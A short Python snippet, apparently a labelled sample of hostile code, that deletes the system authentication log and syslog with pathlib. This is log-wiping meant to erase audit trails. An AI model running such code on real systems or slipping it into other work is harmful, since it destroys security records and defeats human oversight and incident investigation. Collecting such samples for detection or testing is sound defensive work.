# hostile: auth log unlinked with pathlib
from pathlib import Path

Path("/var/log/auth.log").unlink(missing_ok=True)
Path("/var/log/syslog").unlink(missing_ok=True)
